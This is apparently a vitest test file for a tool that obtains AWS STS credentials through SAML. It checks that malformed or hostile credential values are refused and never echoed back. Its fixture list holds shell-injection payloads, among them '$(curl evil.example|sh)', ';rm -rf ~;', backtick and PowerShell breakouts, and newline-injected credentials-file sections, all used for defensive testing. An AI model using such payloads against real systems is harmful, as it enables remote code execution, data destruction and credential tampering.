/**
 * What STS answers is untrusted: credentials whose values are not shaped like STS's are refused before they reach
 * a copy button, a pasted shell line or a credentials file, and the refusal never repeats the value.
 */
import { describe, expect, it } from 'vitest';
import { parseRoleValue } from '@/lib/arn';
import { assumeRoleWithSaml, checkCredentials, type StsTransport, type UncheckedCredentials } from '@/lib/sts';

const NOW = Date.parse('2026-11-22T10:00:00Z');
const HOUR = 3_600_000;
const GOOD = {
  accessKeyId: 'ASIAQ3EXAMPLEKEY7XYZ',
  secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  // Real tokens are ~700–1,100 characters of base64 (more with session tags).
  sessionToken: `IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ${'Dm9+Zk3aB0'.repeat(90)}==`,
  expiration: '2026-11-22T11:00:00Z',
};

describe('checkCredentials accepts what STS issues', () => {
  it.each<[string, UncheckedCredentials, string]>([
    ['an hour, whole seconds', GOOD, '2026-11-22T11:00:00.000Z'],
    ['12 hours, with milliseconds', { ...GOOD, expiration: '2026-11-22T22:00:00.000Z' }, '2026-11-22T22:00:00.000Z'],
    ['an offset instead of Z', { ...GOOD, expiration: '2026-11-22T12:00:00+01:00' }, '2026-11-22T11:00:00.000Z'],
    ['a Date (as the SDK parses it)', { ...GOOD, expiration: new Date(NOW + HOUR) }, '2026-11-22T11:00:00.000Z'],
    ['a 35 h expiry (a clock far behind)', { ...GOOD, expiration: new Date(NOW + 35 * HOUR).toISOString() }, '2026-11-23T21:00:00.000Z'],
    [
      'a 128-character key id and secret, a 16 KiB token',
      { ...GOOD, accessKeyId: 'A'.repeat(128), secretAccessKey: 'a/+='.repeat(32), sessionToken: 'B'.repeat(16_384) },
      '2026-11-22T11:00:00.000Z',
    ],
  ])('%s', (_name, raw, expiration) => {
    const out = checkCredentials(raw, NOW);
    expect(out).toEqual({
      ok: true,
      credentials: { accessKeyId: raw.accessKeyId, secretAccessKey: raw.secretAccessKey, sessionToken: raw.sessionToken, expiration },
    });
  });
});

/** Hostile or broken values, each with the field the refusal names. */
const HOSTILE: [string, UncheckedCredentials, RegExp][] = [
  ['a secret with a space', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI K7MDENG/bPxRfiCYEXAMPLEKEY' }, /secret access key/],
  ['a secret with $(id)', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG$(id)bPxRfiCYEXAMPLE' }, /secret access key/],
  ['a secret with a backtick', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG`id`bPxRfiCYEXAMPLEK' }, /secret access key/],
  ['a secret with a newline and [default]', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG\n[default]\naws_access_key_id=AKIA' }, /secret access key/],
  ['a secret with ;', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG;rm -rf ~;CYEXAMPLEK' }, /secret access key/],
  ['a secret with % (cmd expansion)', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG%PATH%bPxRfiCYEXAMP' }, /secret access key/],
  ['a secret with double quotes', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG"; Remove-Item x; "' }, /secret access key/],
  ['a secret with single quotes', { ...GOOD, secretAccessKey: "wJalrXUtnFEMI/K7MDENG'bPxRfiCYEXAMPLEKEY" }, /secret access key/],
  ['a secret with unicode letters', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKÉY' }, /secret access key/],
  ['a secret with a zero-width space', { ...GOOD, secretAccessKey: 'wJalrXUtnFEMI/K7MDENG\u200bbPxRfiCYEXAMPLEKEY' }, /secret access key/],
  ['an empty secret', { ...GOOD, secretAccessKey: '' }, /secret access key/],
  ['a 129-character secret', { ...GOOD, secretAccessKey: 'a'.repeat(129) }, /secret access key/],
  ['no secret', { ...GOOD, secretAccessKey: undefined }, /secret access key/],
  ['a secret that is not a string', { ...GOOD, secretAccessKey: 1234567890123456 }, /secret access key/],
  ['a key id with lower case', { ...GOOD, accessKeyId: 'asiaq3examplekey7xyz' }, /access key id/],
  ['a key id with a newline and [default]', { ...GOOD, accessKeyId: 'ASIAQ3EXAMPLEKEY\n[default]' }, /access key id/],
  ['a key id with full-width digits', { ...GOOD, accessKeyId: 'ASIAQ3EXAMPLEKEY７ＸＹＺ' }, /access key id/],
  ['a short key id', { ...GOOD, accessKeyId: 'ASIA1' }, /access key id/],
  ['an empty key id', { ...GOOD, accessKeyId: '' }, /access key id/],
  ['a token with a space', { ...GOOD, sessionToken: `${GOOD.sessionToken.slice(0, 100)} ${GOOD.sessionToken.slice(100)}` }, /session token/],
  ['a token with a newline and [default]', { ...GOOD, sessionToken: `${GOOD.sessionToken}\n[default]\naws_secret_access_key=x` }, /session token/],
  ['a token with $(…)', { ...GOOD, sessionToken: `${GOOD.sessionToken}$(curl evil.example|sh)` }, /session token/],
  ['an empty token', { ...GOOD, sessionToken: '' }, /session token/],
  ['a token over 16 KiB', { ...GOOD, sessionToken: 'B'.repeat(16_385) }, /session token/],
  ['an expiration in the past', { ...GOOD, expiration: '2026-11-22T09:59:59Z' }, /already passed/],
  ['an expiration of right now', { ...GOOD, expiration: new Date(NOW).toISOString() }, /already passed/],
  ['an expiration 37 hours away', { ...GOOD, expiration: new Date(NOW + 37 * HOUR).toISOString() }, /more than 36 hours/],
  ['an expiration in 2126', { ...GOOD, expiration: '2126-11-22T11:00:00Z' }, /more than 36 hours/],
  ['an unparsable expiration', { ...GOOD, expiration: 'tomorrow at noon' }, /not a date/],
  ['a date without a time', { ...GOOD, expiration: '2026-11-22' }, /not a date/],
  ['an HTTP-style date', { ...GOOD, expiration: 'Sun, 22 Nov 2026 11:00:00 GMT' }, /not a date/],
  ['an invalid Date', { ...GOOD, expiration: new Date(Number.NaN) }, /not a date/],
  ['epoch seconds', { ...GOOD, expiration: (NOW + HOUR) / 1000 }, /not a date/],
  ['an expiration with a newline', { ...GOOD, expiration: '2026-11-22T11:00:00Z\n[default]' }, /not a date/],
];

describe('checkCredentials refuses what STS never issues', () => {
  it.each(HOSTILE)('%s', (_name, raw, problem) => {
    const out = checkCredentials(raw, NOW);
    expect(out.ok).toBe(false);
    if (!out.ok) expect(out.problem).toMatch(problem);
  });

  it('refuses an answer without credentials', () => {
    expect(checkCredentials(undefined, NOW)).toEqual({ ok: false, problem: 'no credentials in the answer' });
  });
});

describe('assumeRoleWithSaml keeps no malformed credentials', () => {
  const role = parseRoleValue('arn:aws:iam::111111111111:role/Admin,arn:aws:iam::111111111111:saml-provider/EntraID')!;
  const answering = (credentials: UncheckedCredentials, assumedRoleArn?: unknown): StsTransport & { calls: number } => {
    const t = Object.assign(
      async () => {
        t.calls++;
        return { credentials, assumedRoleArn };
      },
      { calls: 0 },
    );
    return t;
  };

  it.each(HOSTILE)('%s: a plain error naming the field, never the value, and no retry', async (_name, raw, problem) => {
    const transport = answering(raw);
    const out = await assumeRoleWithSaml({ role, samlResponse: 'PHNhbWw+', durationSeconds: 3600 }, { transport, now: () => NOW });
    expect(transport.calls).toBe(1);
    expect(out).toMatchObject({ ok: false, stsHost: 'sts.amazonaws.com', error: { code: 'MalformedCredentials' } });
    if (out.ok) return;
    expect(out.error.message).toMatch(/^STS at sts\.amazonaws\.com answered with credentials that are not well-formed \(/);
    expect(out.error.message).toMatch(problem);
    expect(out.error.action).toMatch(/network admin/);
    const shown = JSON.stringify(out);
    for (const value of Object.values(raw)) {
      if (typeof value === 'string' && value.length > 0) expect(shown).not.toContain(value);
    }
  });

  it('keeps well-formed credentials, and drops an assumed-role ARN that is not shaped like one', async () => {
    const ok = await assumeRoleWithSaml(
      { role, samlResponse: 'PHNhbWw+', durationSeconds: 3600 },
      { transport: answering(GOOD, 'arn:aws:sts::111111111111:assumed-role/Admin/alice@contoso.com'), now: () => NOW },
    );
    expect(ok).toMatchObject({ ok: true, assumedRoleArn: 'arn:aws:sts::111111111111:assumed-role/Admin/alice@contoso.com' });
    const odd = await assumeRoleWithSaml(
      { role, samlResponse: 'PHNhbWw+', durationSeconds: 3600 },
      { transport: answering(GOOD, 'arn:aws:sts::111111111111:assumed-role/Admin/alice\n[default]'), now: () => NOW },
    );
    expect(odd.ok).toBe(true);
    if (odd.ok) expect(odd.assumedRoleArn).toBeUndefined();
  });
});
